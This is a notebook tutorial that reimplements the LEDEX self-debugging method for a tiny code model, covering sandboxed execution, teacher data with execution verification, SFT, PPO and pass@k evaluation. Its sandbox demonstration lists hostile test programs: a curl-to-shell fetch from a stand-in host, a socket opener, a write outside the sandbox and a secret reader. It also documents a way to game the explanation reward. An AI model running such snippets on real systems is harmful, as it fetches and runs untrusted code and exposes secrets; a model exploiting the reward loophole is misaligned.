# %% [markdown]
# # 11 · Self-debugging: explain the bug, then fix the code (LEDEX)
#
# **Paper:** Nan Jiang, Xiaopeng Li, Shiqi Wang, Qiang Zhou, Soneya Binta Hossain, Baishakhi Ray, Varun Kumar,
# Xiaofei Ma, Anoop Deoras, *Training LLMs to Better Self-Debug and Explain Code* (LEDEX), arXiv
# [2405.18649](https://arxiv.org/abs/2405.18649). **No official code** was published (only a project page), so
# everything the paper leaves open is designed here and said so where it happens; the list is in
# `sftkit.methods.selfdebug`'s docstring.
#
# LEDEX is a **data-side** method with an RL step after it: wrong programs, a teacher's explanation of each bug
# and its refined code, **execution verification** (only refinements that pass every test are kept), plain SFT
# on (task, wrong code, execution feedback) -> (explanation, refined code), then PPO with a reward for the
# refinement's test pass rate and the explanation's quality.
#
# **The paper's setting, and ours.** LEDEX fine-tunes 7B-15B code models (StarCoder, CodeLlama) on debugging
# trajectories of MBPP/APPS/CodeContests training problems, runs PPO on successful and failed trajectories, and
# evaluates on the benchmarks' held-out problems: pass@1 and pass@10 of the first attempt and after up to three
# refinement rounds, where the model debugs **its own** failing code. Here: the tiny world's one-line code tasks;
# SFT data from the world's train tasks; PPO on the SFT model's own failing attempts at **fresh** tasks that no
# SFT arm and no evaluation split holds; evaluation on 100 held-out tasks of the world's shifted splits
# (`wording`, `larger`, `composed`), where the start model is neither at 0% nor at 100% (`test`, at 100% for every
# model in the last version of this notebook, is left out).
#
# **Headline claims, named before the runs** (registered in `sftkit.leaderboard.CLAIMS`):
# 1. *SFT on LEDEX data raises pass@1 after the refinement rounds* (the paper: by up to 15.92 points): LEDEX SFT
#    against the size-matched control (the same tasks' gold code plus other tasks, the same examples count and
#    steps), pass@1 after the last round on the 100 held-out tasks.
# 2. *RL adds to it* (the paper: up to 3.54 points): LEDEX SFT -> PPO against LEDEX SFT, the same metric.
#
# Everything else (pass@k, first attempts, the gain over the rounds, per split) is secondary.
#
# **What you will learn**
# - why model-written code must run in a separate, limited process, and what `sftkit.sandbox` contains;
# - how wrong first attempts are made (one-edit mutations of gold programs, and a model's own samples), what the
#   teacher writes, and what execution verification keeps and drops;
# - a reward that needs no judge: the refined code's test pass rate plus an explanation score checked against
#   the known bug (and how a policy could game it);
# - whether SFT on the verified debugging data, then PPO on the model's own failures, makes a tiny model better
#   at repairing its own code, decided with 95% intervals that count tasks and seeds (`sftkit.stats.compare`).
#
# **Runtime** (2-core laptop CPU): the full profile (3 seeds; one start model, two SFT arms and PPO per seed,
# every model evaluated over the refinement rounds; everything trained, nothing reused) took 14.4 minutes by
# `sftkit tutorial` on 2026-12-07 (kernel start included; 14.2 by the last cell); `make test` runs a light
# profile (1 seed, a few tasks and steps) in about 1.0 minute. The
# last cell prints this run's time. GPU: not measured here.

# %% tags=["parameters"]
import os

LIGHT = os.environ.get("SFTKIT_LIGHT") == "1"  # `make test`'s light profile; the committed outputs are the full one
MODEL_NAME = "tiny"        # the student: the embedded 1.8M-parameter Llama, a local path, or a Hub id (GPU)
DEVICE = None              # None: cuda when available, else mps, else cpu
SEEDS = (0,) if LIGHT else (0, 1, 2)  # seeds of the arms: batch order, RL prompts (own attempts), sampling
START_STEPS = 100 if LIGHT else 300   # the start model (one, seed 0): plain SFT on the world's train split (notebook 01: 300)
STEPS = 20 if LIGHT else 80  # SFT steps of each arm after the start model (the same for both)
BATCH_SIZE, LR, MAX_LENGTH = 16, 1e-3, 512  # debug examples must fit the tiny model's 512 positions (section 6 prints their lengths)
PPO_STEPS = 3 if LIGHT else 50  # PPO steps after the LEDEX SFT model
PPO_BATCH, PPO_LR = 8, 1e-4  # prompts per PPO step (one reply each); LoRA learning rate (3e-4 reached 4.4 nats in 8 steps)
KL_TARGET, KL_HORIZON = 2.0, 100  # the KL guard: beta adapts towards this KL (nats per reply), fast (horizon in replies)
RL_TASKS = 12 if LIGHT else 100  # fresh tasks whose failing first attempts (2 samples each) are the RL prompts
MAX_NEW_TOKENS, ATTEMPT_TOKENS = 140, 48  # reply budgets: a debug reply (~90-130 tokens), a first attempt (~30)
TEACHER = "scripted"       # "scripted" (the tiny world's), "hf:MODEL" (local transformers) or "openai:MODEL" (a server)
ERROR_RATE, LAZINESS_RATE = 0.3, 0.05  # the scripted teacher's share of wrong refinements and of non-answers
MUTATIONS_PER_TASK = 2     # wrong first attempts drawn per training task
TRAIN_TASKS = 40 if LIGHT else None  # None: every one-line code task of the world's train split
EVAL_SPLITS = {"wording": 25, "larger": 50, "composed": 25}  # held-out tasks per split (light: 4 each)
N_CHAINS = 2              # samples (refinement chains) per evaluation task: pass@1 and pass@N_CHAINS (3 did not fit 15 minutes)
ROUNDS = 1 if LIGHT else 2  # refinement rounds after the first attempt
EXPLAIN_MUTANTS = 6 if LIGHT else 30  # held-out mutants for the explanation test (section 7)

# %%
# %matplotlib inline
import copy
import random
import time
import warnings
from dataclasses import replace

import matplotlib.pyplot as plt
import numpy as np
import torch
from IPython.display import Markdown, display

from sftkit import results, sandbox, stats
from sftkit.data import load_world, tokenize_conversation
from sftkit.experiment import BASELINE, train_settings
from sftkit.methods import ppo, selfdebug
from sftkit.model import add_lora, load_model, pick_device, set_seed
from sftkit.online import OnlineConfig
from sftkit.plots import source_of
from sftkit.teachers import teacher_from
from sftkit.train import train

warnings.filterwarnings("ignore", message=".*longer than max_length")
T0 = time.time()
NOTEBOOK = "11_selfdebug"
set_seed(0)
DEVICE = pick_device(DEVICE)
TOKENIZER = load_model(MODEL_NAME, tokenizer_only=True)
print(f"device {DEVICE}; profile {'light' if LIGHT else 'full'}; seeds {SEEDS}")

# %% [markdown]
# ## 1. Why self-debugging exists
#
# A code model's first attempt is often wrong. Humans do not give up there: they run the code, read the failing
# test, explain to themselves what went wrong, and fix it. Prompting a model to do the same ("self-debugging",
# Chen et al. 2023) helps large models, but the paper finds that open models of a few billion parameters are poor
# at it: their explanations are vague and their "fixes" often repeat the bug. LEDEX trains the skill:
#
# 1. **collect wrong code** (the paper: solutions that LLMs sampled and that fail their tests);
# 2. ask a strong LLM to **explain the bug and refine the code**, given the task, the wrong code and the
#    execution feedback;
# 3. **verify by execution**: keep a trajectory only if its refinement passes every test;
# 4. **SFT** on (task, wrong code, feedback) -> (explanation, refined code);
# 5. **RL** on successful and failed trajectories with a reward that combines refinement quality and
#    explanation quality.
#
# It reports that SFT improves pass@1 by up to 15.92% and pass@10 by up to 9.30% over four benchmarks, that RL
# adds up to 3.54% pass@1 and 2.55% pass@10, and that the trained models keep improving over repeated rounds.
#
# Every step runs model-written code. That is the security surface of this notebook, so it comes first.

# %% [markdown]
# ## 2. The sandbox: code runs in a separate, limited process
#
# `sftkit.sandbox.run_program(program, tests)` starts a fresh interpreter (`python -I -S`) in a throw-away
# directory with a wall-clock and CPU time limit, a memory limit, a process limit, no network (a network
# namespace where the kernel allows one), a clean environment and an audit hook that refuses writes outside the
# directory, sockets and shell commands. Nothing is ever `exec`-ed in this notebook's process. The tests are
# `[argument, expected]` pairs for `f`; the child sends back what each call returned and the parent compares, so
# the result is structured: passed, the first failing call with expected vs got, the error type.
#
# Below, a right program, a wrong one, a syntax error, and five hostile ones, each with a 2-second wall-clock
# and a 1-second CPU limit. (The
# unit tests, `tests/test_sandbox.py`, also run a fork bomb, a memory hog, deletion, an output flood and a sleep
# past the limit, and check the machine afterwards: no stray process, no file outside the sandbox.)

# %%
TESTS = [[0, 5], [1, 6], [5, 10]]  # f(x) = x + 5
ESCAPE = "/tmp/sftkit-notebook-11-escape.txt"
SNIPPETS = {
    "right": "def f(x): return x + 5",
    "wrong": "def f(x): return x - 5",
    "syntax error": "def f(x) return x + 5",
    "endless loop": "def f(x):\n    while True:\n        x += 1",
    "writes outside its directory": f"open({ESCAPE!r}, 'w').write('escaped')\ndef f(x): return x + 5",
    "runs a shell command": "import os\nos.system('curl -s http://example.com/x.sh | sh')\ndef f(x): return x + 5",
    "opens a socket": "import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=1)\ndef f(x): return x + 5",
    "reads a secret": "import os\ndef f(x): return os.environ.get('SFTKIT_SECRET', 'none')",
}
os.environ["SFTKIT_SECRET"] = "hunter2"  # set in this process only: the child gets a clean environment
LIMITS = sandbox.Limits(timeout=2.0, cpu_seconds=1)
ran = {name: sandbox.run_program(program, TESTS, limits=LIMITS) for name, program in SNIPPETS.items()}
del os.environ["SFTKIT_SECRET"]
rows = ["| program | passed | error | feedback a model would read | seconds |", "|---|---|---|---|---|"]
for name, res in ran.items():
    rows.append(f"| {name} | {res.passed} | {res.error_type or ''} | {selfdebug.feedback_text(res)[:90]} | "
                f"{res.duration:.2f} |")
display(Markdown("\n".join(rows)))
print(f"file outside the sandbox written: {os.path.exists(ESCAPE)}")
print("\n".join(f"{layer:10s} {how}" for layer, how in sandbox.isolation().items()))

# %% [markdown]
# The endless loop ends at the 1-second CPU limit (`CPUTimeExceeded`), the write outside its directory, the shell command and the socket
# raise inside the child (`PermissionError` from the guard), and the "secret" is not in the child's environment
# (`f(0)` returned `'none'`). The feedback column (cut to 90 characters in the table) is what the model will be shown: the
# failing call, what it returned and what was expected.
#
# ## 3. Tasks and wrong first attempts
#
# The tasks are the tiny world's one-line code skill (`def f(x): return x + 5`), one per distinct instruction; the
# world's small multi-line programs (`sftkit.world.program_records`) make prompts longer than the
# tiny model's 512 positions (about 610 tokens, by the `selfdebug` module's docstring), so they are for a larger model. Wrong attempts are **one-edit mutations** of the gold
# program (an operator, a comparison, a constant one off or mistyped, swapped operands, a dropped `return`), kept
# only when the sandbox sees them fail. (The paper collects wrong solutions sampled from LLMs;
# `selfdebug.sampled_attempts` does that with any model, and section 7 runs the trained models on their own
# first attempts. Mutations give wrong code of known kinds even where a small model rarely writes code at all.)

# %%
WORLD = load_world("train")
TASKS = selfdebug.one_line_tasks("train")
TASKS = TASKS if TRAIN_TASKS is None else random.Random(0).sample(TASKS, TRAIN_TASKS)
teacher = teacher_from(TEACHER, ERROR_RATE, LAZINESS_RATE, seed=0, tasks=selfdebug.teacher_tasks())
CONFIG = selfdebug.Config(mutations_per_task=MUTATIONS_PER_TASK)
t = time.time()
TRAJ, REPORT = selfdebug.collect(TASKS, teacher, CONFIG, seed=0)
DATA_SECONDS = time.time() - t
a = REPORT["attempts"]
print(f"{a['tasks']} tasks, {a['mutants']} mutants drawn, {a['failing']} fail their tests "
      f"({DATA_SECONDS:.0f} s with the teacher and verification below)")
display(Markdown("| mutation kind | drawn | fail the tests |\n|---|---|---|\n" + "\n".join(
    f"| {kind} ({selfdebug.KINDS[kind]}) | {c['mutants']} | {c['failing']} |" for kind, c in a["by_kind"].items())))
for tr in TRAJ[:3]:
    print(f"{tr.attempt.source:26s} {tr.attempt.code:32s} -> {tr.attempt.feedback}")

# %% [markdown]
# ## 4. The teacher, and execution verification
#
# Teacher and student get the same prompt (`selfdebug.debug_prompt`): the task, the wrong code and the feedback.
# The scripted teacher plays the strong LLM: it explains where the wrong code differs from the gold program and
# which call shows it, and returns the gold program; at its error rate (`ERROR_RATE` = 0.3 here) it "fixes"
# another place of the wrong code instead, with an explanation that matches that wrong fix; at its laziness rate
# it answers with a non-answer. Execution verification runs every parsed refinement against all the task's tests
# and keeps the trajectory only when all pass.

# %%
kept = next(tr for tr in TRAJ if tr.kept)
dropped = next(tr for tr in TRAJ if tr.code is not None and not tr.kept)
for label, tr in (("KEPT", kept), ("DROPPED", dropped)):
    print(f"--- {label} ({tr.reason or 'passes every test'})\nPROMPT:\n{selfdebug.attempt_prompt(tr.attempt)}\nREPLY:\n{tr.reply}\n")
v = REPORT["verification"]
kinds = sorted({tr.attempt.mutation.kind for tr in TRAJ})
outcome = lambda tr: "kept" if tr.kept else ("unparsed" if tr.code is None else "refinement fails")  # noqa: E731
counts = {o: [sum(outcome(tr) == o and tr.attempt.mutation.kind == k for tr in TRAJ) for k in kinds]
          for o in ("kept", "refinement fails", "unparsed")}
fig, ax = plt.subplots(figsize=(9, 3.2))
bottom = np.zeros(len(kinds))
for (o, values), colour in zip(counts.items(), ("tab:green", "tab:red", "tab:gray")):
    ax.bar(kinds, values, bottom=bottom, label=o, color=colour)
    bottom += values
ax.set(xlabel="mutation kind of the wrong attempt", ylabel="teacher replies",
       title=f"execution verification: {v['kept']} of {v['replies']} replies kept")
ax.legend(); plt.tight_layout(); plt.show()
print("dropped:", {**v["unparsed"], **v["failed"]})

# %% [markdown]
# Every wrong refinement the teacher wrote is caught: the sandbox runs it and it fails a test, so the filter's
# precision here is 100% by construction (a refinement is kept only if it passes), and its recall is bounded by
# the tests: three calls per task, enough for one-line functions. With a real teacher the same filter drops
# plausible-looking fixes that do not work, which is the paper's point: the data never teach a fix that fails.
#
# ## 5. The reward: refinement quality plus an explanation score
#
# The paper's RL reward combines the refinement's quality (from test results) with the explanation's quality,
# but without code its formulas are unknown. Ours, for a reply $y$ with refined code $\hat c$ and explanation
# $\hat e$ to a debug prompt whose task has tests $T$:
#
# $$
# r(y) = \underbrace{\frac{1}{|T|}\sum_{t \in T} \mathbb{1}[\hat c \text{ passes } t]}_{\text{pass rate}}
# \; + \; w \cdot \underbrace{\frac{1}{|C|}\sum_{c \in C} \mathbb{1}[\hat e \text{ meets } c]}_{\text{explanation score}},
# \qquad r(y) = -1 \text{ when } y \text{ has no explanation or no code},
# $$
#
# with $w$ = `explanation_weight` = 0.5 (the code matters more than its explanation) and the checks $C$: the
# explanation quotes a **wrong fragment** of the code ("bug"), the matching **right fragment** ("fix") and the
# **failing call** ("test"). All three are measurable because the gold program is known: `changed_fragments`
# diffs the wrong code against it token by token. A developer can act on an explanation that says where the bug
# is, what it should be and which input shows it; "the code is wrong" scores 0. The function that computes it:

# %%
print(source_of(selfdebug.score_replies))

# %%
TEACHER_RL = selfdebug.rl_records(TRAJ)
record = next(r for r in TEACHER_RL if r["meta"]["kept"])
m = record["meta"]
wrong_fix = next(mm.program for mm in selfdebug.mutants(m["wrong"]) if mm.program != m["gold"])
CANDIDATES = {
    "the teacher's kept reply": record["messages"][1]["content"],
    "right code, generic explanation": selfdebug.format_reply("The code is wrong.", m["gold"]),
    "explained right, code unchanged": selfdebug.format_reply(selfdebug.explain(m["wrong"], m["gold"], m["failing_call"]), m["wrong"]),
    "another wrong 'fix'": selfdebug.format_reply(selfdebug.explain(m["wrong"], wrong_fix, m["failing_call"]), wrong_fix),
    "gaming: quotes both programs": selfdebug.format_reply(f"{m['wrong']} vs {m['gold']}, {m['failing_call']}", m["gold"]),
    "no 'Fixed code:'": "Explanation: something is off.",
}
scored = selfdebug.score_replies([record] * len(CANDIDATES), list(CANDIDATES.values()))
print(f"{record['messages'][0]['content']}\n(gold: {m['gold']})")
display(Markdown("| reply | pass rate | checks met | explanation score | reward |\n|---|---|---|---|---|\n" + "\n".join(
    f"| {name} | {s['pass_rate']:.2f} | {', '.join(k for k, ok in s['checks'].items() if ok) or s['reason'] or '–'} | "
    f"{s['explanation_score']:.2f} | {s['reward']:+.2f} |" for name, s in zip(CANDIDATES, scored))))
SAMPLE = random.Random(0).sample(TEACHER_RL, min(60, len(TEACHER_RL)))  # a sample: every sandbox run starts a process
all_scored = selfdebug.score_replies(SAMPLE, [r["messages"][1]["content"] for r in SAMPLE])
for flag, label in ((True, "kept"), (False, "dropped")):
    xs = [s for s, r in zip(all_scored, SAMPLE) if r["meta"]["kept"] == flag]
    print(f"teacher's {label} replies ({len(xs)} of a sample of {len(SAMPLE)}): mean reward {np.mean([s['reward'] for s in xs]):+.2f}, "
          f"pass rate {np.mean([s['pass_rate'] for s in xs]):.2f}, explanation score {np.mean([s['explanation_score'] for s in xs]):.2f}")

# %% [markdown]
# The reward ranks the replies the way a reviewer would, with one hole shown on purpose: a reply that quotes both
# whole programs meets the "bug" and "fix" checks without locating anything (a fragment is a substring of its
# line). On one-line programs the whole program is barely longer than a fragment, so quoting it costs nothing: the
# gaming reply in the table below earns the same reward as the teacher's kept reply; on real code it would pay as well. That is why the notebook reads the explanation score beside the pass rate, never alone,
# and exercise 2 asks for a fix. The teacher's dropped replies still earn part of the reward (their explanations
# quote the wrong code and the failing call): RL on failed trajectories learns from that gradation.
#

# %% [markdown]
# ## 6. Training: one start model, two SFT arms at equal budget, then PPO on the model's own failures
#
# - **start**: plain SFT on the world's train split (notebook 01's recipe, `START_STEPS` steps, seed 0). One
#   start model for every seed: the seeds vary what comes after it (the arms' batch order and dropout, the RL
#   prompts, which are each seed's own failing attempts, and every sampling step), not the start model itself,
#   which keeps three start trainings out of the 15-minute budget. It writes the first attempts in the table
#   below and has never seen a debug prompt.
# - **gold code + other tasks** (the size-matched control): the start model, `STEPS` more SFT steps of
#   `BATCH_SIZE`, on the training tasks' (task -> gold program) records plus as many records of the world's other
#   skills as LEDEX has debug records: LEDEX's number of examples and its repetition of the code records, the
#   same tasks and the same gold programs, without any debugging.
# - **LEDEX SFT**: the start model, the same `STEPS` x `BATCH_SIZE`, on the verified debug records plus the same
#   (task -> gold program) records.
# - **LEDEX SFT -> PPO**: the LEDEX SFT model, then `PPO_STEPS` PPO steps (below).
#
# A gain of LEDEX over the size-matched control is the debugging data's, not more training, more examples, less
# repetition or more knowledge of the tasks. (The last version of this notebook also trained a gold-code-only
# control at the same steps; it sat between the two and is left out here for time.) The learning rate is the
# suite's SFT default (1e-3, `BASELINE`) for both arms, not tuned on dev: a grid would not fit the time budget.
#
# The SFT loss is notebook 01's, on the reply tokens only: for a debug record, $x$ = (task, wrong code, feedback)
# and $y$ = (explanation, refined code),
#
# $$ \mathcal{L}_{\text{SFT}}(\theta) = -\frac{1}{\sum_i |y_i|} \sum_i \sum_{t=1}^{|y_i|} \log p_\theta(y_{i,t} \mid x_i, y_{i,<t}), $$
#
# one token mean over all reply tokens of the batch (`sftkit.losses.ntp_loss`).

# %%
DEBUG = selfdebug.sft_records(TRAJ)
PROMPTS = {selfdebug.task_prompt(r) for r in TASKS}
CODE = [r for r in WORLD if r["skill"] == "code" and selfdebug.task_prompt(r) in PROMPTS]
OTHER = random.Random(0).sample([r for r in WORLD if r["skill"] != "code"], len(DEBUG))  # size-matched control
LEDEX_DATA, SIZED_DATA = DEBUG + CODE, CODE + OTHER
lengths = [len(tokenize_conversation(TOKENIZER, r["messages"])["input_ids"]) for r in DEBUG]
print(f"LEDEX: {len(DEBUG)} debug records + {len(CODE)} code records; size-matched control: the {len(CODE)} code "
      f"records + {len(OTHER)} of the world's other skills; debug records are {min(lengths)}-{max(lengths)} tokens "
      f"(limit {MAX_LENGTH})")
START = replace(BASELINE, steps=START_STEPS, seed=0)
ARM = replace(BASELINE, steps=STEPS, batch_size=BATCH_SIZE, lr=LR, max_length=MAX_LENGTH, warmup_steps=10)
LABELS = {"start": "start (world SFT)", "sized": "gold code + other tasks", "ledex": "LEDEX SFT",
          "ppo": "LEDEX SFT -> PPO"}
MODELS, COST = {arm: {} for arm in LABELS}, {arm: {} for arm in LABELS}
t = time.time()
base, _ = load_model(MODEL_NAME, device=DEVICE)
start = train(base, TOKENIZER, WORLD, START)
for seed in SEEDS:
    MODELS["start"][seed], COST["start"][seed] = start.model, (start.seconds, start.step_time_s)
    for arm, data in (("sized", SIZED_DATA), ("ledex", LEDEX_DATA)):
        run = train(copy.deepcopy(start.model), TOKENIZER, data, replace(ARM, seed=seed))
        MODELS[arm][seed], COST[arm][seed] = run.model, (run.seconds, run.step_time_s)
print(f"the start model and {2 * len(SEEDS)} SFT arms trained in {time.time() - t:.0f} s")

# %% [markdown]
# ### PPO on the SFT model's own failing attempts, at fresh tasks
#
# The paper's RL stage trains on trajectories the model produced itself. Here each seed's LEDEX SFT model
# samples two first attempts at each of `RL_TASKS` **fresh** tasks (`selfdebug.fresh_tasks`: new expressions of
# the `larger` and `composed` kinds, none in any split of the world, so neither an SFT arm nor an evaluation task
# holds them); its distinct failing attempts, with their execution feedback, are the RL prompts, and PPO samples
# the policy's own debug replies to them, scored by the reward of section 5. (The last version ran PPO on the
# teacher's prompts, which the SFT data held: the first batch's reward was already 1.2-1.3 of 1.5.)
#
# The PPO is notebook 07's (`sftkit.methods.ppo`: a fresh LoRA adapter r=16 whose disabled state is the KL
# reference, a value head, GAE), with one pass over each batch of `PPO_BATCH` replies, which is the cheapest
# setting on 2 cores: at one pass the clipped ratio is 1, so the update is a policy gradient with a learned
# baseline and the KL penalty. **The KL guard**: the per-token KL to the SFT model is subtracted from the reward
# with a coefficient beta that grows when the batch's KL (nats per reply) is above `KL_TARGET` and shrinks below
# it (`ppo.AdaptiveKL`, with a short horizon so it reacts within tens of steps), and the learning rate is a third
# of the last version's (whose KL reached 4.4 nats in 8 steps). The figure shows the KL, beta and the share of
# replies in the reply format per step.

# %%
RL_POOL = selfdebug.fresh_tasks(RL_TASKS, seed=1)
EVAL = [t for split, k in EVAL_SPLITS.items() for t in random.Random(0).sample(selfdebug.one_line_tasks(split), 4 if LIGHT else k)]
assert not {r["meta"]["expr"] for r in RL_POOL} & {r["meta"]["expr"] for r in EVAL + TASKS}
ONLINE = OnlineConfig(steps=PPO_STEPS, prompts_per_step=PPO_BATCH, samples_per_prompt=1, temperature=0.8, top_p=1.0,
                      max_new_tokens=MAX_NEW_TOKENS, max_length=MAX_LENGTH, lr=PPO_LR)
PPO_CONFIG = ppo.Config(ppo_epochs=1, minibatch_size=PPO_BATCH, kl_target=KL_TARGET, kl_horizon=KL_HORIZON)
RL_DATA, RL_LOG, LOOPS = {}, {}, {}
for seed in SEEDS:
    generate = selfdebug.model_generate(MODELS["ledex"][seed], TOKENIZER, MAX_NEW_TOKENS, seed=seed, batch_size=128,
                                        attempt_tokens=ATTEMPT_TOKENS)
    RL_DATA[seed], report = selfdebug.own_failing_records(RL_POOL, generate, n=2)
    RL_LOG[seed] = []
    torch.manual_seed(seed)
    loop = ppo.run(add_lora(copy.deepcopy(MODELS["ledex"][seed]), **ppo.LORA), TOKENIZER, RL_DATA[seed],
                   replace(ONLINE, seed=seed), PPO_CONFIG, selfdebug.reward_fn(CONFIG, log=RL_LOG[seed]))
    LOOPS[seed], MODELS["ppo"][seed] = loop, loop.model.merge_and_unload()
    seconds = sum(h["seconds"] for h in loop.history)
    COST["ppo"][seed] = (seconds, seconds / PPO_STEPS)
    print(f"seed {seed}: {report['samples']} first attempts at {len(RL_POOL)} fresh tasks, {report['passed']} pass; "
          f"{report['distinct_failing']} distinct failing ones are the RL prompts; {PPO_STEPS} PPO steps in {seconds:.0f} s")

# %%
fig, axes = plt.subplots(1, 4, figsize=(16, 3.2))
for seed, loop in LOOPS.items():
    steps = [h["step"] for h in loop.history]
    axes[0].plot(steps, [h["reward"] for h in loop.history], label=f"seed {seed}")
    axes[1].plot(steps, [h["kl"] for h in loop.history], label=f"seed {seed}")
    axes[2].plot(steps, [h["kl_coef"] for h in loop.history], label=f"seed {seed}")
    axes[3].plot(steps, [100 * x["format"] for x in RL_LOG[seed]], label=f"seed {seed}")
axes[0].set(xlabel="PPO step", ylabel="mean reward of the batch", title="selfdebug reward (max 1.5, -1 unparsed)")
axes[1].axhline(KL_TARGET, color="gray", ls=":", label="KL target")
axes[1].set(xlabel="PPO step", ylabel="nats / reply", title="KL to the LEDEX SFT model")
axes[2].set(xlabel="PPO step", ylabel="beta", title="KL coefficient (the guard)")
axes[3].set(xlabel="PPO step", ylabel="% of the batch", title="replies in the reply format")
axes[0].legend(); axes[1].legend(); plt.tight_layout(); plt.show()
window = max(1, PPO_STEPS // 5)
for seed, loop in LOOPS.items():
    h, log = loop.history, RL_LOG[seed]
    print(f"seed {seed}: first / last {window} steps: reward {np.mean([x['reward'] for x in h[:window]]):+.2f} / "
          f"{np.mean([x['reward'] for x in h[-window:]]):+.2f}, format {100 * np.mean([x['format'] for x in log[:window]]):.0f}% / "
          f"{100 * np.mean([x['format'] for x in log[-window:]]):.0f}%, fixed {100 * np.mean([x['fixed'] for x in log[:window]]):.0f}% / "
          f"{100 * np.mean([x['fixed'] for x in log[-window:]]):.0f}%; KL max {max(x['kl'] for x in h):.2f}, last {h[-1]['kl']:.2f} nats")

# %% [markdown]
# ## 7. Evaluation: pass@k of the first attempt and after each refinement round
#
# The held-out tasks: `EVAL_SPLITS` one-line code tasks of the world's shifted splits, `wording` (unseen
# phrasings), `larger` (3-digit constants) and `composed` (two operations); none is a training or an RL task. (The
# `test` split is left out: every model wrote its tasks right at the first attempt in the last version, so it
# could decide nothing.) For each task and model, `N_CHAINS` chains: a sampled first attempt (temperature 0.8),
# then up to `ROUNDS` rounds in which a failing chain gets a debug prompt with its own code and its own execution
# feedback, and its reply's code replaces the chain's code (a reply without code keeps the old one). A chain that
# passes stops. pass@k is the unbiased estimator over the chains,
# $\text{pass@}k = \mathbb{E}_{\text{tasks}}\left[1 - \binom{n-c}{k} / \binom{n}{k}\right]$ with $c$ the chains passed by
# that round (`sandbox.pass_at_k`); the per-task values are the items that `sftkit.stats` pairs across arms, and
# the intervals (`stats.interval`, `stats.compare`) count both the tasks and the seeds. Every model's replies are
# sampled in batches, and a program already run on a task's tests is not run again (`run_codes`' cache). The start
# model is evaluated on first attempts only (it has never seen a debug prompt), once.

# %%
KS, PK = (1, N_CHAINS), f"pass@{N_CHAINS}"
CACHE, OUT = {}, {arm: {} for arm in LABELS}  # arm -> seed -> refinement_rounds' output
t = time.time()
for arm in LABELS:
    for seed in (SEEDS[:1] if arm == "start" else SEEDS):
        generate = selfdebug.model_generate(MODELS[arm][seed], TOKENIZER, MAX_NEW_TOKENS, temperature=0.8, seed=seed,
                                            batch_size=128, attempt_tokens=ATTEMPT_TOKENS)
        OUT[arm][seed] = selfdebug.refinement_rounds(EVAL, generate, n=N_CHAINS, rounds=0 if arm == "start" else ROUNDS,
                                                     ks=KS, cache=CACHE)
print(f"{len(EVAL)} tasks x {N_CHAINS} chains per model, {len(CACHE)} distinct programs run, {time.time() - t:.0f} s")


def items(arm, rnd, k=1, split=None):
    """Per-task pass@k after round `rnd` (seeds, tasks), on `split` (None: every held-out task)."""
    keep = [i for i, task in enumerate(EVAL) if split in (None, task["split"])]
    return np.array([[selfdebug.item_pass(out["passed"][min(rnd, len(out["passed"]) - 1)], N_CHAINS, k)[i] for i in keep]
                     for out in OUT[arm].values()])


def ci_text(x):
    """Mean [95% interval] in %, the interval cut to [0, 100] (a t interval of a share can pass its bounds)."""
    mean, (lo, hi) = stats.interval(x)
    return f"{100 * mean:.1f} [{100 * max(lo, 0):.1f}, {100 * min(hi, 1):.1f}]"


start0 = items("start", 0)
print(f"the start model's pass@1 on the {len(EVAL)} held-out tasks: {ci_text(start0)}% (one seed: tasks only); "
      + ", ".join(f"{sp} {ci_text(items('start', 0, split=sp))}%" for sp in EVAL_SPLITS)
      + f"; tasks it never / always passes: {int((start0 == 0).sum())} / {int((start0 == 1).sum())} of {start0.shape[1]}")

# %%
TRAINED = [arm for arm in LABELS if arm != "start"]
fig, axes = plt.subplots(1, 2, figsize=(12, 3.8))
for ax, k in zip(axes, KS):
    for i, arm in enumerate(TRAINED):
        cis = [stats.interval(items(arm, r, k)) for r in range(ROUNDS + 1)]
        ax.errorbar(np.arange(ROUNDS + 1) + 0.05 * (i - 1), [100 * m for m, _ in cis],
                    yerr=[[100 * (m - lo) for m, (lo, _) in cis], [100 * (hi - m) for m, (_, hi) in cis]],
                    marker="o", capsize=3, label=LABELS[arm])
    ax.axhline(100 * stats.interval(items("start", 0, k))[0], color="gray", ls=":", label="start (first attempt)")
    ax.set(xlabel="refinement round (0 = first attempt)", ylabel=f"pass@{k} (%)", xticks=range(ROUNDS + 1),
           title=f"pass@{k} on {len(EVAL)} held-out tasks, 95% interval (tasks and {len(SEEDS)} seeds)")
axes[0].legend(); plt.tight_layout(); plt.show()
head = "| model | " + " | ".join(f"round {r}" for r in range(ROUNDS + 1)) + " | debug replies in the format, by round |"
for k in KS:
    display(Markdown(f"**pass@{k} (%)**, mean [95% interval] over tasks and seeds\n\n{head}\n|" + "---|" * (ROUNDS + 3)
                     + "\n" + "\n".join(
                         f"| {LABELS[arm]} | " + " | ".join(ci_text(items(arm, r, k)) if r < len(next(iter(OUT[arm].values()))["passed"]) else "–"
                                                          for r in range(ROUNDS + 1))
                         + " | " + " / ".join(f"{100 * np.mean([o['rows'][r]['format'] for o in OUT[arm].values()]):.0f}%"
                                              for r in range(1, len(next(iter(OUT[arm].values()))["rows"]))) + " |"
                         for arm in LABELS)))

# %% [markdown]
# Where the gains come from, split by split: pass@1 (%) of the first attempt and after the last round
# (exploratory; per-split verdicts are in section 8, Holm-corrected).

# %%
display(Markdown("| model | " + " | ".join(f"{s} ({sum(t['split'] == s for t in EVAL)} tasks): round 0 → {ROUNDS}"
                                            for s in EVAL_SPLITS)
                 + " |\n|" + "---|" * (len(EVAL_SPLITS) + 1) + "\n" + "\n".join(
                     f"| {LABELS[arm]} | " + " | ".join(
                         f"{100 * items(arm, 0, split=sp).mean():.1f} → {100 * items(arm, ROUNDS, split=sp).mean():.1f}"
                         for sp in EVAL_SPLITS) + " |" for arm in LABELS)))

# %% [markdown]
# ### Explaining known bugs
#
# The refinement rounds above debug each model's own first attempts. A second test isolates the skill the data
# teach: one-edit mutants of the same held-out tasks (bugs of known kinds, so the explanation checks apply), one
# greedy reply each, scored by the reward's parts: the share of replies in the format, the refined code's pass
# rate, and the explanation score, for the two models trained on debug prompts (the start model and the
# size-matched control never saw one; the control's refinement replies are 0% in the format in the tables above).

# %%
ATTEMPTS, _ = selfdebug.mutated_attempts(EVAL, per_task=1, seed=1)
ATTEMPTS = random.Random(1).sample(ATTEMPTS, min(EXPLAIN_MUTANTS, len(ATTEMPTS)))
DEBUG_TEST = [selfdebug.trajectory_record(selfdebug.Trajectory(at, "", None, None), k, "debug-test")
              for k, at in enumerate(ATTEMPTS)]
